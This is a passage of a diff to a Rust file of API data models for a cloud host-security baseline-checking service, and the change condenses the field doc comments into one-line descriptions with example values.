-    /// `BaselineId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `BaselineId`; example: `1`
     pub baseline_id: u64,
 
-    /// `ParentId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ParentId`; example: `0`
     pub parent_id: u64,
 }
 
@@ -2802,24 +1806,16 @@ pub struct BaselineBasicInfo {
 /// Returned in the output of [`DescribeBaselineItemInfo`](super::DescribeBaselineItemInfo) and [`DescribeBaselineRuleCategoryList`](super::DescribeBaselineRuleCategoryList).
 #[tc_model]
 pub struct BaselineCategory {
-    /// `CategoryId`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `CategoryId`; example: `1`
     pub category_id: i64,
 
-    /// `CategoryName`: a string.
-    ///
-    /// Example: `"等保三级"`
+    /// `CategoryName`; example: `"等保三级"`
     pub category_name: String,
 
-    /// `ParentCategoryId`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ParentCategoryId`; example: `1`
     pub parent_category_id: i64,
 
-    /// `ItemCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `100`
+    /// `ItemCount`; example: `100`
     pub item_count: Option<u64>,
 }
 
@@ -2828,14 +1824,10 @@ pub struct BaselineCategory {
 /// Returned in the output of [`DescribeBaselineItemIgnoreList`](super::DescribeBaselineItemIgnoreList), [`DescribeBaselineItemInfo`](super::DescribeBaselineItemInfo) and [`DescribeIgnoreHostAndItemConfig`](super::DescribeIgnoreHostAndItemConfig).
 #[tc_model]
 pub struct BaselineCustomRuleIdName {
-    /// `RuleId`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RuleId`; example: `1`
     pub rule_id: i64,
 
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"自定义"`
+    /// `RuleName`; example: `"自定义"`
     pub rule_name: String,
 }
 
@@ -2844,29 +1836,19 @@ pub struct BaselineCustomRuleIdName {
 /// Returned in the output of [`DescribeBaselineDetail`](super::DescribeBaselineDetail).
 #[tc_model]
 pub struct BaselineDetail {
-    /// `Description`: a string.
-    ///
-    /// Example: `"等保三级-CentOS 8安全****"`
+    /// `Description`; example: `"等保三级-CentOS 8安全****"`
     pub description: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `3`
+    /// `Level`; example: `3`
     pub level: u64,
 
-    /// `PackageName`: a string.
-    ///
-    /// Example: `"21.dat"`
+    /// `PackageName`; example: `"21.dat"`
     pub package_name: String,
 
-    /// `ParentId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ParentId`; example: `1`
     pub parent_id: u64,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"等保三级-CentOS 8安全****"`
+    /// `Name`; example: `"等保三级-CentOS 8安全****"`
     pub name: String,
 }
 
@@ -2875,22 +1857,16 @@ pub struct BaselineDetail {
 /// Sent in the input of [`StartBaselineDetect`](super::StartBaselineDetect).
 #[tc_model]
 pub struct BaselineDetectParam {
-    /// `PolicyIds`: a list of signed 64-bit integers.
-    ///
-    /// Example: `[101,102,103]`
+    /// `PolicyIds`; example: `[101,102,103]`
     pub policy_ids: Option<Vec<i64>>,
 
-    /// `RuleIds`: a list of signed 64-bit integers.
-    ///
-    /// Example: `[30]`
+    /// `RuleIds`; example: `[30]`
     pub rule_ids: Option<Vec<i64>>,
 
-    /// `ItemIds`: a list of signed 64-bit integers.
-    ///
-    /// Example: `[1001,1002]`
+    /// `ItemIds`; example: `[1001,1002]`
     pub item_ids: Option<Vec<i64>>,
 
-    /// `HostIds`: a list of strings.
+    /// `HostIds`
     pub host_ids: Option<Vec<String>>,
 }
 
@@ -2899,30 +1875,22 @@ pub struct BaselineDetectParam {
 /// Returned in the output of [`DescribeBaselineDownloadList`](super::DescribeBaselineDownloadList).
 #[tc_model]
 pub struct BaselineDownload {
-    /// `TaskId`: a signed 64-bit integer.
-    ///
-    /// Example: `1661258891`
+    /// `TaskId`; example: `1661258891`
     pub task_id: i64,
 
-    /// `TaskName`: a string.
-    ///
-    /// Example: `"baseline_rule_view_result_2022-08-23 20:4****"`
+    /// `TaskName`; example: `"baseline_rule_view_result_2022-08-23 20:4****"`
     pub task_name: String,
 
-    /// `Status`: a signed 64-bit integer.
+    /// `Status`
     pub status: i64,
 
-    /// `StartTime`: a string.
-    ///
-    /// Example: `"2022-08-23 20:4****"`
+    /// `StartTime`; example: `"2022-08-23 20:4****"`
     pub start_time: String,
 
-    /// `EndTime`: a string.
-    ///
-    /// Example: `"2022-08-23 20:4****"`
+    /// `EndTime`; example: `"2022-08-23 20:4****"`
     pub end_time: String,
 
-    /// `DownloadUrl`: a string.
+    /// `DownloadUrl`
     pub download_url: String,
 }
 
@@ -2931,54 +1899,34 @@ pub struct BaselineDownload {
 /// Returned in the output of [`DescribeBaselineEffectHostList`](super::DescribeBaselineEffectHostList).
 #[tc_model]
 pub struct BaselineEffectHost {
-    /// `PassCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PassCount`; example: `1`
     pub pass_count: u64,
 
-    /// `FailCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FailCount`; example: `1`
     pub fail_count: u64,
 
-    /// `FirstScanTime`: a string.
-    ///
-    /// Example: `"2021-10-27 00:09:38"`
+    /// `FirstScanTime`; example: `"2021-10-27 00:09:38"`
     pub first_scan_time: String,
 
-    /// `LastScanTime`: a string.
-    ///
-    /// Example: `"2021-10-27 00:09:38"`
+    /// `LastScanTime`; example: `"2021-10-27 00:09:38"`
     pub last_scan_time: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Quuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `HostIp`; example: `"10.0.0.1"`
     pub host_ip: String,
 
-    /// `AliasName`: a string.
-    ///
-    /// Example: `"ERP-文件服务器****"`
+    /// `AliasName`; example: `"ERP-文件服务器****"`
     pub alias_name: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 
-    /// `MaxStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `MaxStatus`; example: `0`
     pub max_status: u64,
 }
 
@@ -2987,14 +1935,10 @@ pub struct BaselineEffectHost {
 /// Returned in the output of [`DescribeBaselineHostTop`](super::DescribeBaselineHostTop).
 #[tc_model]
 pub struct BaselineEventLevelInfo {
-    /// `EventLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `EventLevel`; example: `2`
     pub event_level: u64,
 
-    /// `EventCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `EventCount`; example: `10`
     pub event_count: u64,
 }
 
@@ -3003,37 +1947,25 @@ pub struct BaselineEventLevelInfo {
 /// Returned in the output of [`DescribeBaselineFixList`](super::DescribeBaselineFixList).
 #[tc_model]
 pub struct BaselineFix {
-    /// `ItemName`: a string.
-    ///
-    /// Example: `"确保 SSH 空闲超时时间间****"`
+    /// `ItemName`; example: `"确保 SSH 空闲超时时间间****"`
     pub item_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.206.6****"`
+    /// `HostIp`; example: `"10.206.6****"`
     pub host_ip: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-08-29 17:2****"`
+    /// `CreateTime`; example: `"2024-08-29 17:2****"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2024-09-04 09:5****"`
+    /// `ModifyTime`; example: `"2024-09-04 09:5****"`
     pub modify_time: String,
 
-    /// `FixTime`: a string.
-    ///
-    /// Example: `"2024-08-30 09:3****"`
+    /// `FixTime`; example: `"2024-08-30 09:3****"`
     pub fix_time: String,
 
-    /// `Id`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: i64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -3042,32 +1974,22 @@ pub struct BaselineFix {
 /// Returned in the output of [`DescribeBaselineHostIgnoreList`](super::DescribeBaselineHostIgnoreList) and [`DescribeIgnoreHostAndItemConfig`](super::DescribeIgnoreHostAndItemConfig).
 #[tc_model]
 pub struct BaselineHost {
-    /// `HostId`: a string.
-    ///
-    /// Example: `"11cb73df-ea71-4678-8114-5af94e63****"`
+    /// `HostId`; example: `"11cb73df-ea71-4678-8114-5af94e63****"`
     pub host_id: String,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"核心-APP-U****"`
+    /// `HostName`; example: `"核心-APP-U****"`
     pub host_name: String,
 
-    /// `HostTag`: a string.
-    ///
-    /// Example: `"[\"tag-01\"]"`
+    /// `HostTag`; example: `"[\"tag-01\"]"`
     pub host_tag: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.130.****"`
+    /// `HostIp`; example: `"10.130.****"`
     pub host_ip: String,
 
-    /// `WanIp`: a string.
-    ///
-    /// Example: `"10.48.52****"`
+    /// `WanIp`; example: `"10.48.52****"`
     pub wan_ip: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -3076,62 +1998,40 @@ pub struct BaselineHost {
 /// Returned in the output of [`DescribeBaselineHostDetectList`](super::DescribeBaselineHostDetectList).
 #[tc_model]
 pub struct BaselineHostDetect {
-    /// `HostId`: a string.
-    ///
-    /// Example: `"7b2effb9-d1d9-4bb7-9b5d-d80c88dd****"`
+    /// `HostId`; example: `"7b2effb9-d1d9-4bb7-9b5d-d80c88dd****"`
     pub host_id: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.130****"`
+    /// `HostIp`; example: `"10.130****"`
     pub host_ip: String,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"统一收付费平台-U****"`
+    /// `HostName`; example: `"统一收付费平台-U****"`
     pub host_name: String,
 
-    /// `WanIp`: a string.
-    ///
-    /// Example: `"10.0.1****"`
+    /// `WanIp`; example: `"10.0.1****"`
     pub wan_ip: String,
 
-    /// `DetectStatus`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `DetectStatus`; example: `0`
     pub detect_status: i64,
 
-    /// `PassedItemCount`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `PassedItemCount`; example: `0`
     pub passed_item_count: i64,
 
-    /// `ItemCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ItemCount`; example: `1`
     pub item_count: i64,
 
-    /// `NotPassedItemCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `NotPassedItemCount`; example: `1`
     pub not_passed_item_count: i64,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2021-01-24 02:2****"`
+    /// `FirstTime`; example: `"2021-01-24 02:2****"`
     pub first_time: String,
 
-    /// `LastTime`: a string.
-    ///
-    /// Example: `"2024-11-01 09:3****"`
+    /// `LastTime`; example: `"2024-11-01 09:3****"`
     pub last_time: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"1bc7422a-2366-11e9-a4c5-525400f7****"`
+    /// `Uuid`; example: `"1bc7422a-2366-11e9-a4c5-525400f7****"`
     pub uuid: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -3140,22 +2040,16 @@ pub struct BaselineHostDetect {
 /// Returned in the output of [`DescribeBaselineHostTop`](super::DescribeBaselineHostTop).
 #[tc_model]
 pub struct BaselineHostTopList {
-    /// `EventLevelList`: a list of [`BaselineEventLevelInfo`] objects.
+    /// `EventLevelList`
     pub event_level_list: Vec<BaselineEventLevelInfo>,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"v_vxnnzh****"`
+    /// `HostName`; example: `"v_vxnnzh****"`
     pub host_name: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"fcf85fc9-f45e-457a-bca4-fcae074e****"`
+    /// `Quuid`; example: `"fcf85fc9-f45e-457a-bca4-fcae074e****"`
     pub quuid: String,
 
-    /// `Score`: an unsigned 64-bit integer.
-    ///
-    /// Example: `20`
+    /// `Score`; example: `20`
     pub score: u64,
 }
 
@@ -3164,49 +2058,31 @@ pub struct BaselineHostTopList {
 /// Returned in the output of [`DescribeBaselineList`](super::DescribeBaselineList).
 #[tc_model]
 pub struct BaselineInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"弱口令"`
+    /// `Name`; example: `"弱口令"`
     pub name: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `RuleCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `RuleCount`; example: `0`
     pub rule_count: u64,
 
-    /// `HostCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `HostCount`; example: `0`
     pub host_count: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `CategoryId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `CategoryId`; example: `1`
     pub category_id: u64,
 
-    /// `LastScanTime`: a string.
-    ///
-    /// Example: `"2020-11-21 15:16:00"`
+    /// `LastScanTime`; example: `"2020-11-21 15:16:00"`
     pub last_scan_time: String,
 
-    /// `MaxStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `5`
+    /// `MaxStatus`; example: `5`
     pub max_status: u64,
 
-    /// `BaselineFailCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `BaselineFailCount`; example: `0`
     pub baseline_fail_count: u64,
 }
 
@@ -3215,90 +2091,58 @@ pub struct BaselineInfo {
 /// Returned in the output of [`DescribeBaselineItemList`](super::DescribeBaselineItemList).
 #[tc_model]
 pub struct BaselineItem {
-    /// `ItemId`: a signed 64-bit integer.
-    ///
-    /// Example: `1100`
+    /// `ItemId`; example: `1100`
     pub item_id: i64,
 
-    /// `ItemName`: a string.
-    ///
-    /// Example: `"Linux系统弱****"`
+    /// `ItemName`; example: `"Linux系统弱****"`
     pub item_name: String,
 
-    /// `CategoryId`: a signed 64-bit integer.
-    ///
-    /// Example: `50`
+    /// `CategoryId`; example: `50`
     pub category_id: i64,
 
-    /// `ItemDesc`: a string.
+    /// `ItemDesc`
     pub item_desc: String,
 
-    /// `FixMethod`: a string.
-    ///
-    /// Example: `"修改对应用户的密码为足够强度****"`
+    /// `FixMethod`; example: `"修改对应用户的密码为足够强度****"`
     pub fix_method: String,
 
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"Linux系统弱****"`
+    /// `RuleName`; example: `"Linux系统弱****"`
     pub rule_name: String,
 
-    /// `DetectResultDesc`: a string.
-    ///
-    /// Example: `"1"`
+    /// `DetectResultDesc`; example: `"1"`
     pub detect_result_desc: String,
 
-    /// `Level`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: i64,
 
-    /// `DetectStatus`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `DetectStatus`; example: `1`
     pub detect_status: i64,
 
-    /// `HostId`: a string.
-    ///
-    /// Example: `"1"`
+    /// `HostId`; example: `"1"`
     pub host_id: String,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"1"`
+    /// `HostName`; example: `"1"`
     pub host_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"1"`
+    /// `HostIp`; example: `"1"`
     pub host_ip: String,
 
-    /// `WanIp`: a string.
-    ///
-    /// Example: `"1"`
+    /// `WanIp`; example: `"1"`
     pub wan_ip: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"1"`
+    /// `FirstTime`; example: `"1"`
     pub first_time: String,
 
-    /// `LastTime`: a string.
-    ///
-    /// Example: `"1"`
+    /// `LastTime`; example: `"1"`
     pub last_time: String,
 
-    /// `CanBeFixed`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `CanBeFixed`; example: `1`
     pub can_be_fixed: i64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Uuid`; example: `"1"`
     pub uuid: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -3307,74 +2151,46 @@ pub struct BaselineItem {
 /// Returned in the output of [`DescribeBaselineItemDetectList`](super::DescribeBaselineItemDetectList).
 #[tc_model]
 pub struct BaselineItemDetect {
-    /// `ItemId`: a signed 64-bit integer.
-    ///
-    /// Example: `1401`
+    /// `ItemId`; example: `1401`
     pub item_id: i64,
 
-    /// `ItemName`: a string.
-    ///
-    /// Example: `"MongoDB服务以root****"`
+    /// `ItemName`; example: `"MongoDB服务以root****"`
     pub item_name: String,
 
-    /// `ItemDesc`: a string.
-    ///
-    /// Example: `"MongoDB服务不应使用root账户运行，以减少系****"`
+    /// `ItemDesc`; example: `"MongoDB服务不应使用root账户运行，以减少系****"`
     pub item_desc: String,
 
-    /// `FixMethod`: a string.
-    ///
-    /// Example: `"创建执行MongoDB数据库活动的专用用户（一般为mongodb），并以此专用用户运行MongoD****"`
+    /// `FixMethod`; example: `"创建执行MongoDB数据库活动的专用用户（一般为mongodb），并以此专用用户运行MongoD****"`
     pub fix_method: String,
 
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"MongoDB安全****"`
+    /// `RuleName`; example: `"MongoDB安全****"`
     pub rule_name: String,
 
-    /// `DetectStatus`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `DetectStatus`; example: `1`
     pub detect_status: i64,
 
-    /// `Level`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `Level`; example: `2`
     pub level: i64,
 
-    /// `HostCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HostCount`; example: `1`
     pub host_count: i64,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2024-10-31 16:5****"`
+    /// `FirstTime`; example: `"2024-10-31 16:5****"`
     pub first_time: String,
 
-    /// `LastTime`: a string.
-    ///
-    /// Example: `"2024-11-01 02:0****"`
+    /// `LastTime`; example: `"2024-11-01 02:0****"`
     pub last_time: String,
 
-    /// `DetectResult`: a string.
-    ///
-    /// Example: `"result***"`
+    /// `DetectResult`; example: `"result***"`
     pub detect_result: String,
 
-    /// `RuleId`: a signed 64-bit integer.
-    ///
-    /// Example: `120`
+    /// `RuleId`; example: `120`
     pub rule_id: i64,
 
-    /// `PassedHostCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PassedHostCount`; example: `1`
     pub passed_host_count: i64,
 
-    /// `NotPassedHostCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `NotPassedHostCount`; example: `1`
     pub not_passed_host_count: i64,
 }
 
@@ -3383,49 +2199,31 @@ pub struct BaselineItemDetect {
 /// Returned in the output of [`DescribeBaselineItemIgnoreList`](super::DescribeBaselineItemIgnoreList), [`DescribeBaselineItemInfo`](super::DescribeBaselineItemInfo) and [`DescribeIgnoreHostAndItemConfig`](super::DescribeIgnoreHostAndItemConfig).
 #[tc_model]
 pub struct BaselineItemInfo {
-    /// `ItemId`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ItemId`; example: `1`
     pub item_id: i64,
 
-    /// `ItemName`: a string.
-    ///
-    /// Example: `"设置密码失效时间"`
+    /// `ItemName`; example: `"设置密码失效时间"`
     pub item_name: String,
 
-    /// `RuleId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `43617`
+    /// `RuleId`; example: `43617`
     pub rule_id: u64,
 
-    /// `ItemDesc`: a string.
-    ///
-    /// Example: `"弱口令"`
+    /// `ItemDesc`; example: `"弱口令"`
     pub item_desc: String,
 
-    /// `FixMethod`: a string.
-    ///
-    /// Example: `"弱口令修复"`
+    /// `FixMethod`; example: `"弱口令修复"`
     pub fix_method: String,
 
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"等保二级"`
+    /// `RuleName`; example: `"等保二级"`
     pub rule_name: String,
 
-    /// `Level`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: i64,
 
-    /// `SysRuleId`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `SysRuleId`; example: `1`
     pub sys_rule_id: i64,
 
-    /// `RelatedCustomRuleInfo`: a list of [`BaselineCustomRuleIdName`] objects.
-    ///
-    /// Example: `[{"RuleId":1002,"RuleName":"rule name"}]`
+    /// `RelatedCustomRuleInfo`; example: `[{"RuleId":1002,"RuleName":"rule name"}]`
     pub related_custom_rule_info: Vec<BaselineCustomRuleIdName>,
 }
 
@@ -3434,22 +2232,16 @@ pub struct BaselineItemInfo {
 /// Returned in the output of [`DescribeBaselineItemInfo`](super::DescribeBaselineItemInfo).
 #[tc_model]
 pub struct BaselineItemsCategory {
-    /// `ParentCategoryId`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ParentCategoryId`; example: `1`
     pub parent_category_id: i64,
 
-    /// `ParentCategoryName`: a string.
-    ///
-    /// Example: `"等保合规"`
+    /// `ParentCategoryName`; example: `"等保合规"`
     pub parent_category_name: String,
 
-    /// `CategoryCount`: a signed 64-bit integer.
-    ///
-    /// Example: `53`
+    /// `CategoryCount`; example: `53`
     pub category_count: i64,
 
-    /// `CategoryLists`: a list of [`BaselineCategory`] objects.
+    /// `CategoryLists`
     pub category_lists: Vec<BaselineCategory>,
 }
 
@@ -3459,73 +2251,43 @@ pub struct BaselineItemsCategory {
 /// Returned in the output of [`DescribeBaselinePolicyList`](super::DescribeBaselinePolicyList).
 #[tc_model]
 pub struct BaselinePolicy {
-    /// `PolicyName`: a string.
-    ///
-    /// Example: `"国际标准基线"`
+    /// `PolicyName`; example: `"国际标准基线"`
     pub policy_name: String,
 
-    /// `DetectInterval`: a signed 64-bit integer.
-    ///
-    /// Example: `7`
+    /// `DetectInterval`; example: `7`
     pub detect_interval: i64,
 
-    /// `DetectTime`: a string.
-    ///
-    /// Example: `"09:00:00"`
+    /// `DetectTime`; example: `"09:00:00"`
     pub detect_time: String,
 
-    /// `IsEnabled`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `IsEnabled`; example: `0`
     pub is_enabled: i64,
 
-    /// `AssetType`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `AssetType`; example: `0`
     pub asset_type: i64,
 
-    /// `PolicyId`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `902471`
+    /// `PolicyId`, always sent in responses; example: `902471`
     pub policy_id: Option<i64>,
 
-    /// `RuleCount`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `12`
+    /// `RuleCount`, always sent in responses; example: `12`
     pub rule_count: Option<i64>,
 
-    /// `ItemCount`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1419`
+    /// `ItemCount`, always sent in responses; example: `1419`
     pub item_count: Option<i64>,
 
-    /// `HostCount`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `0`
+    /// `HostCount`, always sent in responses; example: `0`
     pub host_count: Option<i64>,
 
-    /// `RuleIds`: a list of signed 64-bit integers.
-    /// Always sent in responses.
-    ///
-    /// Example: `[11]`
+    /// `RuleIds`, always sent in responses; example: `[11]`
     pub rule_ids: Option<Vec<i64>>,
 
-    /// `HostIds`: a list of strings.
-    /// Always sent in responses.
+    /// `HostIds`, always sent in responses
     pub host_ids: Option<Vec<String>>,
 
-    /// `HostIps`: a list of strings.
-    /// Always sent in responses.
+    /// `HostIps`, always sent in responses
     pub host_ips: Option<Vec<String>>,
 
-    /// `IsDefault`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `0`
+    /// `IsDefault`, always sent in responses; example: `0`
     pub is_default: Option<i64>,
 }
 
@@ -3534,54 +2296,34 @@ pub struct BaselinePolicy {
 /// Returned in the output of [`DescribeBaselineDetectList`](super::DescribeBaselineDetectList).
 #[tc_model]
 pub struct BaselinePolicyDetect {
-    /// `PolicyId`: a signed 64-bit integer.
-    ///
-    /// Example: `1523`
+    /// `PolicyId`; example: `1523`
     pub policy_id: i64,
 
-    /// `TaskId`: a signed 64-bit integer.
-    ///
-    /// Example: `38644956`
+    /// `TaskId`; example: `38644956`
     pub task_id: i64,
 
-    /// `HostCount`: a signed 64-bit integer.
-    ///
-    /// Example: `52`
+    /// `HostCount`; example: `52`
     pub host_count: i64,
 
-    /// `StartTime`: a string.
-    ///
-    /// Example: `"2024-10-31 22:5****"`
+    /// `StartTime`; example: `"2024-10-31 22:5****"`
     pub start_time: String,
 
-    /// `FinishTime`: a string.
-    ///
-    /// Example: `"2024-10-31 22:5****"`
+    /// `FinishTime`; example: `"2024-10-31 22:5****"`
     pub finish_time: String,
 
-    /// `PolicyName`: a string.
-    ///
-    /// Example: `"未授权访问"`
+    /// `PolicyName`; example: `"未授权访问"`
     pub policy_name: String,
 
-    /// `SuccessCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `SuccessCount`; example: `1`
     pub success_count: i64,
 
-    /// `FailedCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FailedCount`; example: `1`
     pub failed_count: i64,
 
-    /// `TimeoutCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `TimeoutCount`; example: `1`
     pub timeout_count: i64,
 
-    /// `PolicyDetectStatus`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PolicyDetectStatus`; example: `1`
     pub policy_detect_status: i64,
 }
 
@@ -3590,24 +2332,16 @@ pub struct BaselinePolicyDetect {
 /// Returned in the output of [`DescribeBaselineItemRiskTop`](super::DescribeBaselineItemRiskTop).
 #[tc_model]
 pub struct BaselineRiskItem {
-    /// `ItemId`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ItemId`; example: `1`
     pub item_id: i64,
 
-    /// `ItemName`: a string.
-    ///
-    /// Example: `"弱口令"`
+    /// `ItemName`; example: `"弱口令"`
     pub item_name: String,
 
-    /// `Level`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: i64,
 
-    /// `HostCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HostCount`; example: `1`
     pub host_count: i64,
 }
 
@@ -3617,61 +2351,34 @@ pub struct BaselineRiskItem {
 /// Returned in the output of [`DescribeBaselineRuleIgnoreList`](super::DescribeBaselineRuleIgnoreList) and [`DescribeBaselineRuleList`](super::DescribeBaselineRuleList).
 #[tc_model]
 pub struct BaselineRule {
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"国际标准-CentOS 6安全基线检查Le****"`
+    /// `RuleName`; example: `"国际标准-CentOS 6安全基线检查Le****"`
     pub rule_name: String,
 
-    /// `RuleId`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `11`
+    /// `RuleId`, always sent in responses; example: `11`
     pub rule_id: Option<i64>,
 
-    /// `RuleType`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `RuleType`, always sent in responses; example: `1`
     pub rule_type: Option<i64>,
 
-    /// `CategoryId`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `CategoryId`, always sent in responses; example: `1`
     pub category_id: Option<i64>,
 
-    /// `RuleDesc`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"国际标准-CentOS 6安全基线检查Le****"`
+    /// `RuleDesc`, always sent in responses; example: `"国际标准-CentOS 6安全基线检查Le****"`
     pub rule_desc: Option<String>,
 
-    /// `HostCount`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `0`
+    /// `HostCount`, always sent in responses; example: `0`
     pub host_count: Option<i64>,
 
-    /// `Items`: a list of [`Item`] objects.
-    /// Always sent in responses.
+    /// `Items`, always sent in responses
     pub items: Option<Vec<Item>>,
 
-    /// `AssetType`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `AssetType`, always sent in responses; example: `1`
     pub asset_type: Option<i64>,
 
-    /// `HostIds`: a list of strings.
-    /// Always sent in responses.
-    ///
-    /// Example: `["F00A8503-6233-452E-913E-DAFEE9******","E3CB79D9-8892-408C-AE2D-A90059******"]`
+    /// `HostIds`, always sent in responses; example: `["F00A8503-6233-452E-913E-DAFEE9******","E3CB79D9-8892-408C-AE2D-A90059******"]`
     pub host_ids: Option<Vec<String>>,
 
-    /// `HostIps`: a list of strings.
-    /// Always sent in responses.
-    ///
-    /// Example: `["10.0.1.11","10.0.0.12"]`
+    /// `HostIps`, always sent in responses; example: `["10.0.1.11","10.0.0.12"]`
     pub host_ips: Option<Vec<String>>,
 }
 
@@ -3680,47 +2387,31 @@ pub struct BaselineRule {
 /// Returned in the output of [`DescribeBaselineRuleDetectList`](super::DescribeBaselineRuleDetectList).
 #[tc_model]
 pub struct BaselineRuleDetect {
-    /// `RuleId`: a signed 64-bit integer.
-    ///
